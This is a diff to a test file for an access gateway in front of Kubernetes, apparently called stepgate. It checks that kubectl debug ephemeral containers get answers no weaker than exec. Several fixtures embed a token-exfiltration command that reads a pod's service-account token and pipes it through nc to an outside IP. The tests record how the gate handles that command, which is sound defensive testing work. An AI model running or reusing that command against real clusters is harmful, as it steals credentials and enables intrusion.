@@ -98,6 +98,9 @@ describe('from the victim\'s own laptop, network, client and token, in the worki
   // namespace; this one runs a command that reads the target's token through /proc/1/root and
   // sends it out. `kubectl debug -- sh -c …` sends a command too, and exec (which the on-call may
   // do) reads the same file: what differs is what the command does, which stepgate does not judge.
+  // An ephemeral container is judged no weaker than exec (the tests at the end of this file); the
+  // same command through exec from this login is allowed too, so asking more of the debug
+  // container alone would move the malware to exec.
   it.fails("an ephemeral container whose command reads the pod's token and sends it out is not allowed on the morning's sign-in", async () => {
     const login = await twoDays('oncall-a@fin.example', ONCALL);
     const body = JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', 'cat /proc/1/root/var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443'], targetContainerName: 'api' }] } });
@@ -189,5 +192,71 @@ describe('two clusters behind one gateway, two offices in one trusted network (o
     ], { ua: mac, source: '10.40.1.45' });
     const res = await send(login, THU + 4.5 * H, 'GET', '/api/v1/namespaces/payments-prod/secrets/payments-db-app', { ua: mac, source: '10.40.2.48' });
     expect(reasonOf(res), rules(res)).not.toBe('allowed');
+  });
+});
+
+describe('an ephemeral container is judged no weaker than exec into the same pod, in every shape kubectl debug sends', () => {
+  const POD = 'payments-api-6f8b9c-r8w3z';
+  /** `kubectl debug POD -it --image=… --target=api [--profile=…]`: the strategic merge patch it sends. */
+  const debug = (securityContext?: Record<string, unknown>, extra: Record<string, unknown> = {}) =>
+    JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-x7k2p', image: 'busybox:1.37', stdin: true, tty: true, targetContainerName: 'api', terminationMessagePolicy: 'File', ...(securityContext ? { securityContext } : {}), ...extra }] } });
+  const exec = (ns: string) => `/api/v1/namespaces/${ns}/pods/${POD}/exec?command=sh&container=api&stdin=true&stdout=true&tty=true`;
+  const eph = (ns: string) => `/api/v1/namespaces/${ns}/pods/${POD}/ephemeralcontainers`;
+
+  // Each namespace class with its own rule: production (pod-shell), the cluster's own
+  // (system-pod-access), stepgate's (gate-itself / gate-itself-access). Fresh subjects, one sign-in
+  // each, the exec and the debug at the same virtual time: the answers must be the same or stronger.
+  it('the same answer as a WebSocket exec for a sign-in a minute old, seven hours old, and a hardware key a minute old, in production, kube-system, istio-system and stepgate', async () => {
+    const states: [string, (sub: string, at: number) => Login][] = [
+      ['aal2, 1 min', (sub, at) => signIn(sub, at - M)],
+      ['aal2, 7 h', (sub, at) => signIn(sub, at - 7 * H)],
+      ['aal3, 1 min', (sub, at) => ({ ...signIn(sub, at - M), acr: 'urn:stepgate:aal3' })],
+    ];
+    const at = THU + 3 * H;
+    let n = 0;
+    for (const ns of ['payments-prod', 'kube-system', 'istio-system', 'stepgate']) {
+      for (const [state, login] of states) {
+        const a = await send(login(`eph-exec-${++n}@fin.example`, at), at, 'GET', exec(ns), { headers: WS });
+        const b = await send(login(`eph-debug-${n}@fin.example`, at), at, 'PATCH', eph(ns), { body: debug(), contentType: SMP });
+        const rank = (r: CheckResponse) => (reasonOf(r) === 'allowed' ? 0 : reasonOf(r) === 'policy_deny' || reasonOf(r) === 'risk_deny' ? 2 : 1);
+        expect(rank(b), `${ns} ${state}: exec ${reasonOf(a)} (${rules(a)}), debug ${reasonOf(b)} (${rules(b)})`).toBeGreaterThanOrEqual(rank(a));
+      }
+    }
+  });
+
+  it("--profile=sysadmin, netadmin and general, a JSON patch, and a PUT of the pod: each asks the guardrail's hardware key where the plain debug is allowed", async () => {
+    const login = await twoDays('oncall-c@fin.example', [
+      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
+      ['PATCH', eph('payments-prod'), debug(), SMP],
+      ['GET', `/api/v1/namespaces/payments-prod/pods/${POD}/attach?container=debugger-x7k2p&stdin=true&stdout=true&tty=true`, undefined, undefined, WS],
+    ]);
+    const shapes: [string, Opts, string][] = [
+      ['sysadmin', { body: debug({ privileged: true }), contentType: SMP }, 'guardrail:privileged_container'],
+      ['netadmin', { body: debug({ capabilities: { add: ['NET_ADMIN', 'NET_RAW'] } }), contentType: SMP }, 'guardrail:capability_added'],
+      ['general', { body: debug({ capabilities: { add: ['SYS_PTRACE'] } }), contentType: SMP }, 'guardrail:capability_added'],
+      ['JSON patch', { body: JSON.stringify([{ op: 'add', path: '/spec/ephemeralContainers/-', value: { name: 'debugger-q2', image: 'busybox:1.37', securityContext: { privileged: true } } }]), contentType: 'application/json-patch+json' }, 'guardrail:privileged_container'],
+      ['PUT', { body: JSON.stringify({ apiVersion: 'v1', kind: 'Pod', metadata: { name: POD, namespace: 'payments-prod' }, spec: { containers: [{ name: 'api', image: 'registry.fin.example/payments-api:4.2.0' }], ephemeralContainers: [{ name: 'debugger-q3', image: 'busybox:1.37', securityContext: { privileged: true } }] } }) }, 'guardrail:privileged_container'],
+    ];
+    let t = THU + H;
+    for (const [name, o, guard] of shapes) {
+      const res = await send(login, (t += 30_000), name === 'PUT' ? 'PUT' : 'PATCH', eph('payments-prod'), o);
+      expect(reasonOf(res), `${name}: ${rules(res)}`).toBe('acr_insufficient');
+      expect(rules(res), name).toContain(guard);
+    }
+  });
+
+  // Open, with figures: what the attack's container runs, `exec` runs too. The same command through
+  // exec (`kubectl exec -c api -- sh -c 'cat …token | nc …'`) from the same login a minute later
+  // is allowed, like the debug container: asking more of one would move the malware to the other.
+  it("the attack's command through exec, from the same login, gets the ephemeral container's answer", async () => {
+    const login = await twoDays('oncall-d@fin.example', [
+      ['GET', '/api/v1/namespaces/payments-prod/pods?limit=500'],
+      ['PATCH', eph('payments-prod'), debug(), SMP],
+    ]);
+    const cmd = 'cat /var/run/secrets/kubernetes.io/serviceaccount/token | nc 45.135.232.18 443';
+    const viaExec = await send(login, THU + 1.5 * H, 'POST', `/api/v1/namespaces/payments-prod/pods/${POD}/exec?command=sh&command=-c&command=${encodeURIComponent(cmd)}&container=api&stdout=true&stderr=true`, { headers: { connection: 'Upgrade', upgrade: 'SPDY/3.1' } });
+    const viaDebug = await send(login, THU + 1.5 * H + M, 'PATCH', eph('payments-prod'), { body: JSON.stringify({ spec: { ephemeralContainers: [{ name: 'debugger-p9z4m', image: 'alpine:3.21', command: ['sh', '-c', `cat /proc/1/root${cmd.slice(3)}`], targetContainerName: 'api' }] } }), contentType: SMP });
+    expect([reasonOf(viaExec), reasonOf(viaDebug)]).toEqual([reasonOf(viaDebug), reasonOf(viaExec)]);
+    expect(reasonOf(viaExec)).toBe('allowed');
   });
 });
